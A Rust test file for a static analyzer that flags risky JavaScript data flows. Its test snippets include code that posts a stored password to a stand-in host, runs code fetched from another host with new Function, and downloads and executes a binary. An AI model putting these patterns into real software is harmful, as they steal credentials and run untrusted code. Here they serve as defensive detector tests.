//! Honest pages and servers: what they have from where they are, and what they do when they are asked.

use super::*;

#[test]
fn a_page_signs_in_where_it_came_from() {
    let sends = |address: &str| {
        let code = format!(
            "const saved = localStorage.getItem('password');\nasync function go(t, p) {{ await fetch({address}, {{method: 'POST', body: p}}); }}\ngo(window.base, saved);\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        flows.iter().any(|f| {
            f.rule.id == "flow-stores-sent"
                && f.finding(crate::model::Evidence::note("")).severity > crate::model::Severity::Medium
        })
    };
    assert!(sends("'https://collect.invalid/x'"));
    assert!(!sends("`${t}/admin/version`"));
}

#[test]
fn what_a_page_has_from_its_own_server_is_no_remote_code() {
    let severity = |address: &str, more: &str| {
        let code = format!(
            "fetch({address}).then(r => r.json()).then(view => {{ const f = new Function(`row, {{${{view.fields}}}}`, view.code); f(1); }});\n{more}"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-remote-code").unwrap_or_else(|| panic!("{code}"));
        found.finding(crate::model::Evidence::note("")).severity
    };
    use crate::model::Severity;
    assert!(severity("`/api/${name}?row=1`", "") <= Severity::Medium);
    assert!(severity("'https://code.invalid/api'", "") > Severity::Medium);
    assert!(severity("'//code.invalid/api'", "") > Severity::Medium, "another host, by the same scheme");
    assert!(severity("'/\\\\code.invalid/api'", "") > Severity::Medium, "browsers read it as two slashes");
    assert!(severity("'/api'", "fetch('https://other.invalid/x');") > Severity::Medium, "who answers is not known");
}

#[test]
fn a_tool_that_is_called_may_get_the_program_it_needs() {
    let triggered = |begin: &str, end: &str, host: &str| {
        let code = format!(
            "const fs = require('fs'), cp = require('child_process');\nconst server = require('x').server();\nasync function get(to) {{ const r = await fetch('https://{host}/tool'); fs.writeFileSync(to, Buffer.from(await r.arrayBuffer())); fs.chmodSync(to, 0o755); cp.execFile(to, ['scan']); }}\n{begin} await get('/opt/x/tool'); {end}\n"
        );
        let outcome = outcome(Language::JavaScript, &code);
        let flows = flows::judge(&outcome, false);
        let found = flows.iter().find(|f| f.rule.id == "flow-download-run").unwrap_or_else(|| panic!("{code}"));
        found.finding(crate::model::Evidence::note("")).stages.has(crate::model::Stage::Trigger)
    };
    assert!(!triggered("server.tool('scan', 'Scans the sources', {}, async () => {", "});", "tools.invalid"));
    assert!(triggered("(async () => {", "})();", "tools.invalid"));
    assert!(triggered("server.on('ready', async () => {", "});", "tools.invalid"));
}
